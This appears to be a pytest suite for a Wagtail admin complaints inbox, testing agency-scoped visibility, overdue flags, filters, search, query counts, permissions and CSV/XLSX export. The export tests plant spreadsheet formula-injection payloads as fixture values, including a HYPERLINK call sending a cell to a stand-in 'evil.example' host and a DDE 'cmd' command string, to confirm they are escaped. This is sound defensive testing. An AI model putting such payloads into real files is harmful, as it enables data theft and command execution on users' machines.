"""The staff inbox in the Wagtail admin: who sees what, overdue flags, filters, search, export."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from smartcity.complaints.models import Complaint
from smartcity.core.models import Kelurahan
from tests.complaints.factories import ComplaintFactory
from tests.complaints.staff_fixtures import *  # noqa: F403
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

INBOX = "complaints_admin:index"


def inbox(client, **params):
    return client.get(reverse(INBOX), params)


def listed(response):
    """References of the complaints on an inbox page (from the view's own page object)."""
    return {c.reference for c in response.context["object_list"]}


def overdue_case(agency, **fields):
    past = timezone.now() - datetime.timedelta(days=1)
    return ComplaintFactory(agency=agency, first_response_due=past, resolution_due=past, **fields)


def assert_denied(response):
    """Wagtail answers a PermissionDenied in the admin with a redirect to the dashboard."""
    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailadmin_home")


def row_of(content, reference):
    """The HTML table row showing ``reference``."""
    return next(row for row in content.split("<tr")[1:] if reference in row).split("</tr>")[0]


def export_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# --- who sees what -------------------------------------------------------------------------


def test_an_officer_sees_only_the_complaints_of_their_agency(client, officer, pupr, dlh):
    own = ComplaintFactory.create_batch(2, agency=pupr)
    other = ComplaintFactory(agency=dlh)
    client.force_login(officer)
    response = inbox(client)
    assert response.status_code == 200
    assert listed(response) == {c.reference for c in own}
    assert other.reference not in response.content.decode()


@pytest.mark.parametrize("role", ["supervisor", "superuser"])
def test_supervisors_see_every_complaint(role, client, actor, pupr, dlh):
    cases = [ComplaintFactory(agency=pupr), ComplaintFactory(agency=dlh), ComplaintFactory(agency=None)]
    client.force_login(actor(role))
    assert listed(inbox(client)) == {c.reference for c in cases}


def test_an_officer_without_an_agency_sees_nothing(client, pupr):
    ComplaintFactory(agency=pupr)
    client.force_login(UserFactory(username="petugas-baru", groups=["Agency officers"]))
    response = inbox(client)
    assert response.status_code == 200
    assert listed(response) == set()


def test_editors_without_a_case_role_have_no_inbox(client, editor, complaint):
    client.force_login(editor)
    assert_denied(inbox(client))
    assert_denied(client.get(reverse("complaints_admin:inspect", args=[complaint.pk])))


def test_anonymous_visitors_are_sent_to_the_login(client, complaint):
    response = inbox(client)
    assert response.status_code == 302
    assert reverse("wagtailadmin_login") in response["Location"]


def test_the_menu_groups_the_complaint_screens(client, supervisor):
    client.force_login(supervisor)
    page = client.get(reverse("wagtailadmin_home")).content.decode()
    for name in (INBOX, "wagtailsnippets_complaints_complaintcategory:list", "open311_clients:index"):
        assert reverse(name) in page


def test_no_add_edit_or_delete_screens_for_complaints(client, superuser, complaint):
    client.force_login(superuser)
    response = inbox(client)
    content = response.content.decode()
    assert f'href="{reverse("complaints_admin:inspect", args=[complaint.pk])}"' in content
    assert "/admin/pengaduan/new/" not in content
    for url in (
        "/admin/pengaduan/new/",
        f"/admin/pengaduan/edit/{complaint.pk}/",
        f"/admin/pengaduan/delete/{complaint.pk}/",
    ):
        assert client.get(url).status_code == 404


# --- the listing ---------------------------------------------------------------------------


def test_newest_first_with_the_listed_columns(client, supervisor, pupr):
    old = ComplaintFactory(agency=pupr, created_at=timezone.now() - datetime.timedelta(days=3))
    new = ComplaintFactory(agency=pupr, title="Sampah menumpuk")
    client.force_login(supervisor)
    response = inbox(client)
    assert [c.pk for c in response.context["object_list"]] == [new.pk, old.pk]
    content = response.content.decode()
    for text in (
        new.reference,
        new.title,
        str(new.category),
        "PUPR",
        new.get_status_display(),
    ):
        assert text in content
    # One "next deadline" column: the first response is due first.
    assert timezone.localtime(new.first_response_due).strftime("%d-%m-%Y %H:%M") in content


def test_overdue_complaints_are_flagged(client, supervisor, pupr):
    late = overdue_case(pupr, title="Kasus terlambat")
    on_time = ComplaintFactory(agency=pupr, title="Kasus tepat waktu")
    finished_late = overdue_case(
        pupr, status=Complaint.Status.CLOSED, resolved_at=timezone.now(), closed_at=timezone.now()
    )
    client.force_login(supervisor)
    content = inbox(client).content.decode()
    rows = {c: row_of(content, c.reference) for c in (late, on_time, finished_late)}
    assert "complaint-deadline--late" in rows[late]
    assert "complaint-overdue" in rows[late]
    for case in (on_time, finished_late):
        assert "complaint-deadline--late" not in rows[case]
        assert "complaint-overdue" not in rows[case]
    assert 'class="complaint-row--overdue"' in rows[late]
    assert content.count('class="complaint-row--overdue"') == 1


def test_overdue_first_ordering(client, supervisor, pupr):
    recent = ComplaintFactory(agency=pupr)
    late = overdue_case(pupr, created_at=timezone.now() - datetime.timedelta(days=20))
    client.force_login(supervisor)
    assert [c.pk for c in inbox(client).context["object_list"]] == [recent.pk, late.pk]
    assert [c.pk for c in inbox(client, ordering="urgency").context["object_list"]] == [late.pk, recent.pk]


@pytest.mark.parametrize("field", ["reference", "title", "description"])
def test_search_by_reference_title_or_description(field, client, supervisor, pupr):
    wanted = ComplaintFactory(
        agency=pupr, title="Got mampet di Jalan Gatot", description="Air meluap ke rumah warga."
    )
    ComplaintFactory(agency=pupr)
    term = {"reference": wanted.reference, "title": "mampet", "description": "meluap"}[field]
    client.force_login(supervisor)
    assert listed(inbox(client, q=term)) == {wanted.reference}


def test_search_stays_within_the_officers_agency(client, officer, pupr, dlh):
    ComplaintFactory(agency=dlh, title="Sampah liar")
    own = ComplaintFactory(agency=pupr, title="Sampah di saluran")
    client.force_login(officer)
    assert listed(inbox(client, q="Sampah")) == {own.reference}


# --- filters -------------------------------------------------------------------------------


def test_filter_by_status(client, supervisor, pupr):
    received = ComplaintFactory(agency=pupr)
    progressing = ComplaintFactory(agency=pupr, status=Complaint.Status.IN_PROGRESS)
    ComplaintFactory(agency=pupr, status=Complaint.Status.VERIFIED)
    client.force_login(supervisor)
    assert listed(inbox(client, status="in_progress")) == {progressing.reference}
    both = client.get(reverse(INBOX) + "?status=in_progress&status=received")
    assert listed(both) == {progressing.reference, received.reference}


def test_filter_by_category_agency_and_kecamatan(client, supervisor, pupr, dlh):
    from smartcity.complaints.models import ComplaintCategory

    rubbish = ComplaintCategory.objects.get(slug="sampah")
    village = Kelurahan.objects.exclude(kecamatan=Kelurahan.objects.order_by("pk").first().kecamatan).first()
    a = ComplaintFactory(agency=pupr)
    b = ComplaintFactory(agency=dlh, category=rubbish)
    c = ComplaintFactory(agency=pupr, kelurahan=village)
    client.force_login(supervisor)
    assert listed(inbox(client, category=rubbish.pk)) == {b.reference}
    assert listed(inbox(client, agency=dlh.pk)) == {b.reference}
    assert listed(inbox(client, kecamatan=village.kecamatan_id)) == {c.reference}
    assert a.reference in listed(inbox(client, agency=pupr.pk))


def test_filter_overdue_and_open(client, supervisor, pupr):
    late = overdue_case(pupr)
    fine = ComplaintFactory(agency=pupr)
    done = ComplaintFactory(agency=pupr, status=Complaint.Status.RESOLVED, resolved_at=timezone.now())
    client.force_login(supervisor)
    assert listed(inbox(client, overdue="yes")) == {late.reference}
    assert listed(inbox(client, overdue="no")) == {fine.reference, done.reference}
    assert listed(inbox(client, state="open")) == {late.reference, fine.reference}
    assert listed(inbox(client, state="finished")) == {done.reference}


def test_filter_by_period_of_submission(client, supervisor, pupr):
    now = timezone.now()
    march = ComplaintFactory(agency=pupr, created_at=now - datetime.timedelta(days=40))
    ComplaintFactory(agency=pupr, created_at=now - datetime.timedelta(days=5))
    day = timezone.localtime(march.created_at).date()
    client.force_login(supervisor)
    response = inbox(client, period_from=day.isoformat(), period_to=day.isoformat())
    assert listed(response) == {march.reference}


def test_officers_get_no_agency_filter_for_other_agencies(client, officer, supervisor, pupr):
    client.force_login(officer)
    response = inbox(client)
    assert "agency" not in response.context["filters"].form.fields
    client.force_login(supervisor)
    assert "agency" in inbox(client).context["filters"].form.fields


def test_an_officer_cannot_widen_the_inbox_with_filters(client, officer, dlh):
    ComplaintFactory(agency=dlh)
    client.force_login(officer)
    assert listed(inbox(client, agency=dlh.pk)) == set()


# --- query counts --------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["supervisor", "officer"])
def test_the_inbox_query_count_does_not_grow_with_the_list(
    role, client, actor, pupr, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    user = actor(role)
    client.force_login(user)
    ComplaintFactory.create_batch(5, agency=pupr)
    inbox(client)  # warm caches (content types, site)
    with CaptureQueriesContext(connection) as five:
        assert inbox(client).status_code == 200
    ComplaintFactory.create_batch(45, agency=pupr)
    for i, case in enumerate(Complaint.objects.all()[:10]):
        if i % 2:
            case.first_response_due = timezone.now() - datetime.timedelta(days=1)
            case.save()
    with CaptureQueriesContext(connection) as fifty:
        response = inbox(client)
    assert len(response.context["object_list"]) == 50
    assert len(fifty) == len(five), "\n".join(
        q["sql"][:150] for q in (fifty if len(fifty) > len(five) else five).captured_queries
    )
    with django_assert_max_num_queries(len(five)):
        inbox(client, ordering="urgency", overdue="yes")


# --- export --------------------------------------------------------------------------------


def test_export_csv_of_the_filtered_list(client, officer, pupr, dlh):
    wanted = ComplaintFactory(
        agency=pupr, status=Complaint.Status.IN_PROGRESS, reporter_nik="1275010101900001"
    )
    ComplaintFactory(agency=pupr)
    ComplaintFactory(agency=dlh, status=Complaint.Status.IN_PROGRESS)
    client.force_login(officer)
    response = inbox(client, status="in_progress", export="csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    rows = export_rows(response)
    assert len(rows) == 1
    row = list(rows[0].values())
    assert wanted.reference in row
    assert wanted.reporter_email in row
    assert wanted.get_status_display() in row
    assert "1275010101900001" not in ",".join(row)  # the NIK stays out of spreadsheets
    submitted = timezone.localtime(wanted.created_at).strftime("%Y-%m-%d %H:%M")
    assert submitted in row  # WIB, as staff read it


def test_export_escapes_formulas_in_csv(client, supervisor, pupr):
    ComplaintFactory(
        agency=pupr,
        title='=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        description="+cmd|' /C calc'!A0",
        address="@SUM(1+1)",
        reporter_name="-2+3",
        reporter_phone="+6281234567890",
    )
    client.force_login(supervisor)
    values = list(export_rows(inbox(client, export="csv"))[0].values())
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"klik")' in values
    assert "'+cmd|' /C calc'!A0" in values
    assert "'@SUM(1+1)" in values
    assert "'-2+3" in values
    assert "+6281234567890" in values  # a plain number runs nothing and stays readable
    assert not any(v.startswith(("=", "@")) for v in values)


def test_export_xlsx_with_escaped_formulas(client, supervisor, pupr):
    case = ComplaintFactory(agency=pupr, title="=1+1", description="@cmd", reporter_name="Siti")
    client.force_login(supervisor)
    response = inbox(client, export="xlsx")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = list(sheet.iter_rows())
    assert len(rows) == 1
    values = [c.value for c in rows[0]]
    assert values[0] == case.reference
    assert "'=1+1" in values and "'@cmd" in values and "Siti" in values
    assert all(c.data_type != "f" for c in rows[0])
    # Submitted at, in WIB (spreadsheets have no time zones).
    assert values[1].replace(microsecond=0) == timezone.localtime(case.created_at).replace(
        tzinfo=None, microsecond=0
    )


def test_export_needs_the_export_permission(client, pupr):
    ComplaintFactory(agency=pupr)
    reader = UserFactory(username="pembaca")
    reader.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_complaint")
    )
    client.force_login(reader)
    response = inbox(client)
    assert response.status_code == 200
    assert "export=csv" not in response.content.decode()
    assert_denied(inbox(client, export="csv"))
    assert_denied(inbox(client, export="xlsx"))
    reader.user_permissions.add(Permission.objects.get(codename="export_complaint"))
    reader = type(reader).objects.get(pk=reader.pk)
    client.force_login(reader)
    assert "export=csv" in inbox(client).content.decode()
    assert inbox(client, export="csv").status_code == 200


def test_the_export_holds_only_visible_complaints(client, officer, pupr, dlh):
    own = ComplaintFactory(agency=pupr)
    ComplaintFactory(agency=dlh)
    client.force_login(officer)
    rows = export_rows(inbox(client, export="csv"))
    assert [own.reference] == [r for row in rows for r in row.values() if r.startswith("TST-")]


# --- dashboard -----------------------------------------------------------------------------


def test_dashboard_summary_counts_the_users_open_and_overdue_complaints(client, officer, pupr, dlh):
    overdue_case(pupr)
    ComplaintFactory(agency=pupr)
    ComplaintFactory(
        agency=pupr, status=Complaint.Status.CLOSED, resolved_at=timezone.now(), closed_at=timezone.now()
    )
    overdue_case(dlh)
    client.force_login(officer)
    response = client.get(reverse("wagtailadmin_home"))
    panel = response.content.decode().split('id="complaints-inbox-content"')[1].split("</section>")[0]
    assert f'href="{reverse(INBOX)}?state=open">2 ' in panel
    overdue_link = f'href="{reverse(INBOX)}?overdue=yes&amp;ordering=urgency"'
    assert f'{overdue_link} class="complaints-inbox-summary__overdue">1 ' in panel


def test_no_dashboard_summary_for_people_without_a_case_role(client, editor):
    client.force_login(editor)
    assert 'id="complaints-inbox' not in client.get(reverse("wagtailadmin_home")).content.decode()
